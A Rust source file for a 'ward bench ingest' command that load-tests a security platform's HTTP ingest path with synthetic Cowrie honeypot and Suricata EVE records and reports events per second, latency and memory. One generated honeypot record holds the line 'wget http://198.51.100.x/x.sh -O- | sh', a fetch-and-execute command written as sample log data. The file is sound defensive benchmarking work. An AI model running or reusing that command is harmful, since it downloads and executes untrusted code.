//! `ward bench ingest`: the HTTP ingest path end to end on this machine. Starts the API
//! in-process on 127.0.0.1:0 over the embedded log in a temporary directory, registers one
//! device per client, and drives it with signed batches of Cowrie and Suricata EVE records from
//! concurrent clients over real sockets. Reports accepted events/s, request latency and peak
//! memory (of the whole process: server and clients).

use std::sync::Arc;
use std::time::{Duration, Instant};

use anyhow::{Context, Result, bail};
use secrecy::SecretString;
use ward_api::crypto::{hex, random_bytes};
use ward_api::registry::DeviceStore;
use ward_api::registry::file::FileDeviceStore;
use ward_log::{Topic, TopicConfig};
use ward_model::TenantId;

use crate::Outcome;
use crate::cli::BenchIngestArgs;
use crate::config::Config;
use crate::memory::peak_rss_bytes;

const WARMUP: Duration = Duration::from_secs(1);

/// One client's identity and prepared bodies.
struct Client {
    device_id: String,
    secret: SecretString,
    url: reqwest::Url,
    bodies: Vec<Vec<u8>>,
}

/// The counts of a 202 answer.
#[derive(serde::Deserialize)]
struct Answer {
    accepted: u64,
    rejected: u64,
}

/// What one client measured after the warm-up.
#[derive(Default)]
struct Measured {
    events: u64,
    rejected: u64,
    requests: u64,
    refused: u64,
    latencies_us: Vec<u32>,
}

/// Runs `ward bench ingest`.
///
/// # Errors
/// The server cannot start, or requests fail.
pub fn run(args: &BenchIngestArgs) -> Result<Outcome> {
    if args.clients == 0 || args.batch == 0 {
        bail!("--clients and --batch must be above 0");
    }
    let dir = tempfile::tempdir().context("creating a temporary data directory")?;
    let config = bench_config(args)?;
    super::runtime()?.block_on(async {
        let log = super::serve::open_log(&config, dir.path()).await?;
        let app = super::serve::build_app(&config, dir.path(), Arc::clone(&log))?;
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await?;
        let base = reqwest::Url::parse(&format!("http://{}/", listener.local_addr()?))?;
        tokio::spawn(async move { axum::serve(listener, app).await });
        let clients = clients(args, &config, dir.path(), &base).await?;
        let results = drive(clients, Duration::from_secs_f64(args.seconds.max(1.0))).await?;
        let stats = log.stats(Topic::RawEvents).await?;
        report(args, &results, stats.iter().map(|p| p.bytes).sum());
        Ok(Outcome::Success)
    })
}

fn bench_config(args: &BenchIngestArgs) -> Result<Config> {
    let mut config = Config::default();
    config.security.master_key = Some(SecretString::from(hex(&random_bytes::<32>()?)));
    config.ingest.rate_limit_events_per_sec = 100_000_000;
    config.ingest.rate_limit_burst = 100_000_000;
    config.ingest.max_in_flight = args.clients * 2;
    let topic = TopicConfig { partitions: args.partitions.max(1), ..TopicConfig::default() };
    config.log.topics = config.log.topics.clone().with(Topic::RawEvents, topic);
    Ok(config)
}

async fn clients(
    args: &BenchIngestArgs,
    config: &Config,
    dir: &std::path::Path,
    base: &reqwest::Url,
) -> Result<Vec<Client>> {
    let devices = FileDeviceStore::new(dir, Some(super::serve::master_key(config, dir)?));
    let tenant = TenantId::new("bench")?;
    let mut out = Vec::with_capacity(args.clients);
    for i in 0..args.clients {
        let new = devices.create(&tenant, &format!("bench-{i}")).await?;
        let source = if i % 2 == 0 { "cowrie" } else { "suricata" };
        let bodies =
            (0..8).map(|b| body(source, args.batch, i * 8 + b, !args.no_gzip)).collect::<Result<_>>()?;
        out.push(Client {
            device_id: new.device.id.to_string(),
            secret: new.secret,
            url: base.join(&format!("ingest/{source}"))?,
            bodies,
        });
    }
    Ok(out)
}

/// A batch of realistic records; `seed` varies addresses and sessions between bodies.
fn body(source: &str, n: usize, seed: usize, gzip: bool) -> Result<Vec<u8>> {
    let mut out = String::with_capacity(n * 400);
    for i in 0..n {
        let (a, b) = ((seed * 7 + i) % 250 + 1, (seed * 13 + i * 3) % 250 + 1);
        let line = match (source, i % 3) {
            ("cowrie", 0) => format!(
                r#"{{"eventid":"cowrie.session.connect","src_ip":"203.0.{a}.{b}","src_port":{},"dst_ip":"10.0.0.5","dst_port":2222,"session":"{seed:06x}{i:06x}","protocol":"ssh","message":"New connection: 203.0.{a}.{b}","sensor":"hp-{seed}","timestamp":"2026-11-25T18:42:{:02}.465560Z"}}"#,
                30000 + i,
                i % 60
            ),
            ("cowrie", 1) => format!(
                r#"{{"eventid":"cowrie.login.failed","username":"root","password":"pass{i}","message":"login attempt [root/pass{i}] failed","sensor":"hp-{seed}","timestamp":"2026-11-25T18:43:{:02}.102344Z","src_ip":"203.0.{a}.{b}","session":"{seed:06x}{i:06x}","protocol":"ssh"}}"#,
                i % 60
            ),
            ("cowrie", _) => format!(
                r#"{{"eventid":"cowrie.command.input","input":"wget http://198.51.100.{a}/x.sh -O- | sh","message":"CMD: wget","sensor":"hp-{seed}","timestamp":"2026-11-25T18:44:{:02}.000001Z","src_ip":"203.0.{a}.{b}","session":"{seed:06x}{i:06x}","protocol":"ssh"}}"#,
                i % 60
            ),
            (_, 0) => format!(
                r#"{{"timestamp":"2026-11-25T18:42:{:02}.218361+0000","flow_id":{},"event_type":"dns","src_ip":"10.16.{a}.{b}","src_port":55487,"dest_ip":"10.16.1.1","dest_port":53,"proto":"UDP","dns":{{"type":"query","id":{i},"rrname":"host{i}.example.net","rrtype":"A","tx_id":0}}}}"#,
                i % 60,
                1_219_330_291_699_854u64 + i as u64
            ),
            (_, 1) => format!(
                r#"{{"timestamp":"2026-11-25T18:43:{:02}.000000+0000","event_type":"alert","src_ip":"10.16.{a}.{b}","src_port":{},"dest_ip":"192.0.2.80","dest_port":80,"proto":"TCP","alert":{{"action":"allowed","gid":1,"signature_id":2013028,"rev":7,"signature":"ET POLICY curl User-Agent Outbound","category":"Attempted Information Leak","severity":2}}}}"#,
                i % 60,
                40000 + i
            ),
            _ => format!(
                r#"{{"timestamp":"2026-11-25T18:44:{:02}.000000+0000","flow_id":{},"event_type":"flow","src_ip":"10.16.{a}.{b}","src_port":{},"dest_ip":"192.0.2.10","dest_port":443,"proto":"TCP","app_proto":"tls","flow":{{"pkts_toserver":12,"pkts_toclient":10,"bytes_toserver":1450,"bytes_toclient":6810,"start":"2026-11-25T18:43:58.000000+0000","end":"2026-11-25T18:44:00.000000+0000","age":2,"state":"closed","reason":"timeout"}}}}"#,
                i % 60,
                9_000_000 + i,
                40000 + i
            ),
        };
        out.push_str(&line);
        out.push('\n');
    }
    if !gzip {
        return Ok(out.into_bytes());
    }
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    std::io::Write::write_all(&mut e, out.as_bytes())?;
    Ok(e.finish()?)
}

async fn drive(clients: Vec<Client>, duration: Duration) -> Result<Vec<Measured>> {
    let http = reqwest::Client::builder().pool_max_idle_per_host(clients.len()).build()?;
    let start = Instant::now();
    let (measure_from, end) = (start + WARMUP, start + WARMUP + duration);
    let tasks: Vec<_> =
        clients.into_iter().map(|c| tokio::spawn(client_loop(http.clone(), c, measure_from, end))).collect();
    let mut out = Vec::with_capacity(tasks.len());
    for t in tasks {
        out.push(t.await??);
    }
    Ok(out)
}

async fn client_loop(
    http: reqwest::Client,
    c: Client,
    measure_from: Instant,
    end: Instant,
) -> Result<Measured> {
    let mut m = Measured::default();
    let gzip = c.bodies.first().is_some_and(|b| b.starts_with(&[0x1f, 0x8b]));
    for n in 0usize.. {
        let sent = Instant::now();
        if sent >= end {
            break;
        }
        let body = &c.bodies[n % c.bodies.len()];
        let ts = chrono::Utc::now().timestamp();
        let h = ward_api::signing::sign_request(&c.device_id, &c.secret, "POST", c.url.path(), body, ts)?;
        let mut request = http.post(c.url.clone()).body(body.clone());
        for (k, v) in h.pairs() {
            request = request.header(k, v);
        }
        if gzip {
            request = request.header("content-encoding", "gzip");
        }
        let response = request.send().await?;
        let status = response.status().as_u16();
        let answer = response.bytes().await?;
        let counted = sent >= measure_from;
        match status {
            202 if counted => {
                let answer: Answer = serde_json::from_slice(&answer)?;
                m.events += answer.accepted;
                m.rejected += answer.rejected;
                m.requests += 1;
                m.latencies_us.push(u32::try_from(sent.elapsed().as_micros()).unwrap_or(u32::MAX));
            }
            202 => {}
            429 | 503 => {
                m.refused += u64::from(counted);
                tokio::time::sleep(Duration::from_millis(50)).await;
            }
            other => bail!("bench request answered {other}"),
        }
    }
    Ok(m)
}

fn report(args: &BenchIngestArgs, results: &[Measured], log_bytes: u64) {
    let secs = args.seconds.max(1.0);
    let events: u64 = results.iter().map(|m| m.events).sum();
    let requests: u64 = results.iter().map(|m| m.requests).sum();
    let refused: u64 = results.iter().map(|m| m.refused).sum();
    let rejected: u64 = results.iter().map(|m| m.rejected).sum();
    let mut lat: Vec<u32> = results.iter().flat_map(|m| m.latencies_us.iter().copied()).collect();
    lat.sort_unstable();
    let pct = |p: f64| lat.get(((lat.len() as f64 * p) as usize).min(lat.len().saturating_sub(1))).copied();
    let ms = |v: Option<u32>| v.map_or("-".to_owned(), |us| format!("{:.2}", f64::from(us) / 1000.0));
    println!(
        "ward bench ingest: {} clients, batches of {}, gzip {}, {} partition(s), {secs:.0} s",
        args.clients,
        args.batch,
        !args.no_gzip,
        args.partitions.max(1)
    );
    println!("events/s        {:.0} (accepted; {rejected} rejected)", events as f64 / secs);
    println!("requests/s      {:.1}", requests as f64 / secs);
    println!("latency p50 ms  {}", ms(pct(0.50)));
    println!("latency p99 ms  {}", ms(pct(0.99)));
    println!("refused (429/503) {refused}");
    println!("log bytes       {log_bytes}");
    let rss = peak_rss_bytes().map_or("-".to_owned(), |b| format!("{:.1}", b as f64 / (1 << 20) as f64));
    println!("peak RSS MiB    {rss} (server and clients in one process)");
}
